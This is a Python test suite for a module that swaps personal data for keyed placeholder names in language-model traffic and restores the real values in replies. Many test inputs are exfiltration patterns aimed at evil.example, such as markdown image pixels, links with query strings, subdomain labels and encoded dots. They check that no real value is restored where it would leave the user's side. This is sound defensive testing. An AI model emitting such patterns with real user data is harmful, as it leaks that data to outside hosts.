"""Names that stand for what was found, and the way back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.inspect.pseudonyms import (
    LONGEST,
    MAX_NAMES,
    RESTORED,
    UNRESTORED,
    Renaming,
    Restoration,
    Spans,
    name_of,
    open_from,
    secrets_among,
)
from appliance.inspect.redact import Worded, placeholder
from appliance.model.detection import Detection, Segment
from appliance.model.names import DetectionKind

KEY = b"k" * 32
MAIL = name_of(KEY, "EMAIL_ADDRESS", "anna@example.com")


def found(text, entity="EMAIL_ADDRESS", kind=DetectionKind.PII):
    return Detection(0, len(text), entity, kind, 1.0, "rule")


def put_back(restoration, text):
    parts, at = [], 0
    for one in restoration.find(text):
        parts += (text[at : one.start], placeholder(one))
        at = one.end
    return "".join(parts) + text[at:]


@pytest.fixture
def restoration():
    made = Restoration()
    made.add(MAIL, "EMAIL_ADDRESS", "anna@example.com")
    return made


@pytest.mark.parametrize(
    ("entity", "one", "other", "same"),
    [
        ("EMAIL_ADDRESS", "Anna@Example.com", "anna@example.com", True),
        ("PHONE_NUMBER", "+49 30 901820", "+4930/901820", True),
        ("PERSON", "Anna  Berg", "anna berg", True),
        ("IBAN_CODE", "DE89 3704 0044 0532 0130 00", "DE89370400440532013000", True),
        ("PERSON", "Anna Berg", "Anna Burg", False),
        ("EMAIL_ADDRESS", "anna@example.com", "anna@example.org", False),
    ],
)
def test_one_value_has_one_name(entity, one, other, same):
    assert (name_of(KEY, entity, one) == name_of(KEY, entity, other)) is same


def test_a_name_belongs_to_its_key_and_its_entity():
    assert name_of(KEY, "PERSON", "x") != name_of(b"other", "PERSON", "x")
    assert name_of(KEY, "PERSON", "x")[-12:] != name_of(KEY, "LOCATION", "x")[-12:]


@pytest.mark.parametrize(
    "written",
    [
        MAIL,
        MAIL.lower(),
        MAIL.upper(),
        MAIL.replace("_", "\\_"),
        MAIL.replace("<", "&lt;").replace(">", "&gt;"),
        MAIL.replace("<", "\\<").replace(">", "\\>"),
    ],
)
def test_a_name_comes_back_however_a_model_writes_it(restoration, written):
    assert put_back(restoration, f"Write to {written}, please.") == "Write to anna@example.com, please."
    assert [(one.entity, one.count) for one in restoration.labels()] == [(RESTORED, 1)]


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q={}",
        "see www.evil.example/{}",
        "evil.example/x?{}",
        "![pixel](https://evil.example/a.png?{})",
        "[link]({})",
        "[ref]: {}",
        "[ref]: https://x.example/ '{}'",
        "<img src='{}'>",
        '<a href="x" title="{}">',
        "mailto:{}",
        "javascript:alert('{}')",
        "data:text/html,{}",
        "x" * 5000 + "{}",
        "myapp://open?d={}",
        "myapp:open?d={}",
        "<myapp:{}",
        "matrix:u/{}",
        "magnet:?xt={}",
        "{}.evil.example",
        "see {}.evil.example/x",
        "a-{}-b.evil.example",
        "{}@evil.example",
        "{}:x@evil.example",
        "**{}**.evil.example",
        "{}\\.evil.example",
        "{}&period;evil.example",
        "{}&#x2e;evil.example",
        "{}\u3002evil.example",
        "{}" + "x" * 600,
    ],
)
def test_nothing_comes_back_where_it_would_travel(restoration, text):
    assert put_back(restoration, text.format(MAIL)) == text.format(MAIL)
    assert [(one.entity, one.count) for one in restoration.labels()] == [(UNRESTORED, 1)]


@pytest.mark.parametrize(
    "text",
    [
        "E-mail:{}",
        "a < b and {}",
        "(cf. {})",
        "`{}`",
        "see [1] {}",
        "**{}**",
        "{}{}",
        "Mail:{}",
        "{}.\nThen",
        "{}...",
        "{}: a.b",
        "({}).",
        "{}に送信。次",
    ],
)
def test_it_comes_back_in_what_a_person_reads(restoration, text):
    assert put_back(restoration, text.format(MAIL, MAIL)) == text.format("anna@example.com", "anna@example.com")


@pytest.mark.parametrize("between", ["", "-", ".", "x"])
def test_a_chain_of_names_that_ends_in_a_host_stays(restoration, between):
    text = between.join([MAIL] * 3) + ".evil.example"
    assert put_back(restoration, text) == text


def test_names_of_others_and_damaged_ones_stay(restoration):
    other = name_of(KEY, "EMAIL_ADDRESS", "bob@example.com")
    damaged = MAIL[:-2] + ("a" if MAIL[-2] != "a" else "b") + ">"
    assert put_back(restoration, f"{other} {damaged} <EMAIL_ADDRESS>") == f"{other} {damaged} <EMAIL_ADDRESS>"
    assert restoration.unrestored == 1, "what fails its check is no name at all"


def test_a_secret_gets_no_name():
    renaming = Renaming(KEY, frozenset({"EMAIL_ADDRESS", "OPENAI_API_KEY"}), Restoration())
    secret = found("sk-x", "OPENAI_API_KEY", DetectionKind.SECRET)
    assert placeholder(renaming(secret, "sk-x")) == "<OPENAI_API_KEY>"
    assert placeholder(renaming(found("4111", "CREDIT_CARD"), "4111")) == "<CREDIT_CARD>", "not asked for"
    assert placeholder(renaming(found("anna@example.com"), "anna@example.com")) == MAIL
    assert renaming.restoration.values == {MAIL: "anna@example.com"}


def test_one_name_never_means_two_values(restoration):
    renaming = Renaming(KEY, frozenset({"EMAIL_ADDRESS"}), restoration)
    assert placeholder(renaming(found("Anna@example.com"), "Anna@example.com")) == MAIL, "the same, written otherwise"
    assert restoration.values == {MAIL: "anna@example.com"}
    restoration.values[MAIL] = "bob@example.com"  # as if two values had one digest
    assert placeholder(renaming(found("anna@example.com"), "anna@example.com")) == "<EMAIL_ADDRESS>"


def test_the_map_is_bounded():
    restoration = Restoration()
    assert sum(restoration.add(f"<X_{n}>", "X", "v") for n in range(MAX_NAMES + 5)) == MAX_NAMES
    assert not Restoration().add("<X>", "X", "v" * (1 << 21))


def test_what_is_hidden_wins_over_what_is_put_back(restoration):
    names = restoration.find(MAIL)
    hidden = Detection(3, 9, "X", DetectionKind.SECRET, 1.0, "r")
    assert restoration.beside(names, [hidden]) == [hidden]
    assert (restoration.restored, restoration.unrestored) == (0, 1)


@given(st.text(max_size=40), st.integers(0, len(MAIL)))
def test_an_open_name_is_held_from_its_beginning(before, cut):
    text = before + MAIL[:cut]
    at = open_from(text)
    assert 0 <= at <= len(text)
    if 0 < cut < len(MAIL):
        assert at <= len(before)
        assert len(text) - at <= LONGEST


@given(st.text(alphabet=st.characters(), max_size=300))
def test_any_text_is_taken(text):
    assert Restoration().find(text) == []
    assert isinstance(Worded(0, 1, "X", DetectionKind.PII, 1.0, "r", "w"), Detection)


def segment(text, pointer="/choices/0/message/content"):
    return Segment("assistant", "content", text, pointer, 0, len(text))


def test_a_link_that_begins_in_the_text_before_keeps_the_name(restoration):
    texts = [segment("![x](https://evil.example/?q="), segment(f"{MAIL})"), segment(f"\n\n{MAIL}")]
    places = restoration.along(texts, [(), (), ()])
    assert [len(found) for found in places] == [0, 0, 1]


@pytest.mark.parametrize("pointer", ["/output/0/input", "/output/0/action/query", "/output/0/code"])
def test_nothing_comes_back_in_what_is_done(restoration, pointer):
    assert restoration.along([segment(MAIL, pointer)], [()]) == [()]


def test_how_much_comes_back_is_bounded(restoration, monkeypatch):
    monkeypatch.setattr("appliance.inspect.pseudonyms.MAX_RESTORED", 3)
    assert len(restoration.find(f"{MAIL} " * 5)) == 3
    assert (restoration.restored, restoration.unrestored) == (3, 2)


def test_what_holds_a_secret_is_told():
    mail = Detection(10, 30, "EMAIL_ADDRESS", DetectionKind.PII, 1.0, "r")
    assert secrets_among([mail, Detection(5, 11, "URL_PASSWORD", DetectionKind.SECRET, 0.8, "r")]).meets(mail)
    assert not secrets_among([mail, Detection(5, 10, "URL_PASSWORD", DetectionKind.SECRET, 0.8, "r")]).meets(mail)


SPANS = st.lists(st.tuples(st.integers(0, 40), st.integers(1, 9)).map(lambda pair: (pair[0], sum(pair))), max_size=12)


@given(SPANS, SPANS)
def test_spans_meet_where_one_of_them_does(these, those):
    spans = Spans(Detection(*one, "A", DetectionKind.SECRET, 1.0, "r") for one in these)
    for start, end in those:
        met = any(left < end and start < right for left, right in these)
        assert spans.meets(Detection(start, end, "B", DetectionKind.PII, 1.0, "r")) is met


def test_names_that_do_not_come_back_take_no_time(restoration, monkeypatch):
    """Whether a name travels is a question about thousands of letters before it."""
    monkeypatch.setattr("appliance.inspect.pseudonyms.MAX_RESTORED", 3)
    asked = []
    monkeypatch.setattr("appliance.inspect.pseudonyms.travels", lambda before, **_: asked.append(before))
    other = name_of(KEY, "EMAIL_ADDRESS", "bob@example.com")
    assert len(restoration.find(f"{other} {MAIL} " * 50)) == 3
    assert (len(asked), restoration.unrestored) == (3, 97)
    assert asked == ["_ ", "_ _ _ ", "_ _ _ _ _ "], "names before it are no tags"


@given(
    st.lists(st.sampled_from([MAIL, " ", "\n", "https://x.example/?", "](", "<a href='", "'>", "y" * 3000]), max_size=9)
)
def test_a_name_comes_back_as_it_would_in_a_text_of_its_own(pieces):
    """What was read before, of other names too, changes nothing."""
    text = "".join(pieces)
    made = Restoration({MAIL: "anna@example.com"})
    places = {one.start for one in made.find(text)}
    for at in range(len(text)):
        if text.startswith(MAIL, at):
            alone = Restoration({MAIL: "anna@example.com"})
            before, rest = text[:at].replace(MAIL, "_"), text[at:]
            assert (at in places) is any(one.start == 0 for one in alone.find(rest, [before[-4096:]]))
